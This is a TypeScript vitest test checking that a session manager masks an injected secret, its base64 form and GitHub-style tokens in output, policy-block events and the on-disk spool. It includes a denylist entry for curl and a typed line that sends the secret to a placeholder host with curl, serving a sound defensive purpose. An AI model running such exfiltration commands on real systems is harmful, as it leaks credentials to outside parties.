import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { RunnerEventSchema, ok, type RunnerEvent } from '../../protocol';
import { REDACTED } from '../../protocol/redact';
import { HookServer } from '../hooks';
import { detectProviders, shellProvider } from '../providers';
import { EventSender } from '../spool/sender';
import { Spool } from '../spool/spool';
import { captureLogger, createCommand, makeSampleRepo, makeTempDir, outputOf, removeTempDir, waitFor } from '../testing/fixtures';
import { WorkspaceManager } from '../workspace/workspace-manager';
import { SessionManager } from './session-manager';

/** A value no program prints by chance; its base64 form is checked too. */
const SECRET = 'sup3r-S3cret-value-2026';
const SECRET_B64 = Buffer.from(SECRET).toString('base64');
const GITHUB_TOKEN = `ghp_${'A1b2C3d4E5'.repeat(3)}abcdef`;

describe('a session masks secrets before anything leaves it', () => {
  let tmp: string;
  let manager: SessionManager;
  let spool: Spool;
  let sender: EventSender;
  const events: RunnerEvent[] = [];
  let source: string;
  let hooks: HookServer;

  beforeEach(async () => {
    events.length = 0;
    tmp = await makeTempDir('redaction');
    source = makeSampleRepo(path.join(tmp, 'source'));
    const log = captureLogger();
    spool = await Spool.open(path.join(tmp, 'data', 'spool'), { log });
    const workspaces = new WorkspaceManager(path.join(tmp, 'data'), log);
    await workspaces.init();
    hooks = await HookServer.start(log);
    manager = new SessionManager({
      hooks,
      spool,
      workspaces,
      providers: await detectProviders([shellProvider()], log),
      homesDir: path.join(tmp, 'data', 'homes'),
      log,
      capacity: 2,
      stopGraceMs: 300,
      idleAfterMs: 60_000,
    });
    sender = new EventSender(spool, log);
    sender.attach((batch, done) => {
      events.push(...batch.map((e) => RunnerEventSchema.parse(e)));
      const highest = new Map<string, number>();
      for (const e of batch) highest.set(e.session_id, Math.max(highest.get(e.session_id) ?? 0, e.seq));
      done(ok({ acked: [...highest].map(([session_id, seq]) => ({ session_id, seq })) }));
    });
  });

  afterEach(async () => {
    await manager.stopAll('test over');
    sender.dispose();
    spool.close();
    await hooks.close();
    await removeTempDir(tmp);
  });

  it('the injected secret, its base64 form and known tokens never reach the stream, the spool or other events', async () => {
    const cmd = createCommand({ repo_source: source, secrets: { API_TOKEN: SECRET }, policy: { shell_denylist: ['curl'] } });
    const sid = cmd.session_id;
    expect(manager.create(cmd).ok).toBe(true);
    await waitFor(() => /[#$] /.test(outputOf(events, sid)), 'prompt');
    const type = (line: string) => manager.input({ session_id: sid, data: line, mode: 'line' });
    // The value printed whole, in base64, and in two writes (one program, two syscalls).
    type('echo "one:$API_TOKEN:"; printf %s "$API_TOKEN" | base64; A=$API_TOKEN; printf two:%s "${A%%-value-2026}"; printf %s:\\\\n "${A#sup3r-S3cret}"');
    // A well-known token format the org never saved, typed by a person (the echo shows it too).
    type(`echo "tok:${GITHUB_TOKEN}:"`);
    // A denylisted command carrying the secret: the POLICY_BLOCKED event's command is masked.
    type(`curl https://example.invalid/?k=${SECRET}`);
    type('echo END-OF-TEST');
    await waitFor(() => (outputOf(events, sid).match(/END-OF-TEST/g) ?? []).length >= 2, 'the last line ran');
    await waitFor(() => events.some((e) => e.session_id === sid && e.type === 'POLICY_BLOCKED'), 'the block');

    const out = outputOf(events, sid);
    expect(out).toContain(`one:${REDACTED}:`);
    expect(out).toContain(`two:${REDACTED}:`);
    expect(out).toContain(`tok:${REDACTED}:`);
    const everything = JSON.stringify(events);
    for (const leaked of [SECRET, SECRET_B64.slice(0, 20), GITHUB_TOKEN]) expect(everything).not.toContain(leaked);
    const blocked = events.find((e) => e.session_id === sid && e.type === 'POLICY_BLOCKED');
    expect(blocked && 'command' in blocked ? blocked.command : '').toBe(`curl https://example.invalid/?k=${REDACTED}`);

    // What the runner keeps on disk (the spool, compacted once acked) holds nothing unmasked either.
    const onDisk = fs
      .readdirSync(spool.dir, { recursive: true, withFileTypes: true })
      .filter((d) => d.isFile())
      .map((d) => fs.readFileSync(path.join(d.parentPath, d.name), 'utf8'))
      .join('\n');
    for (const leaked of [SECRET, GITHUB_TOKEN]) expect(onDisk).not.toContain(leaked);
  });
});
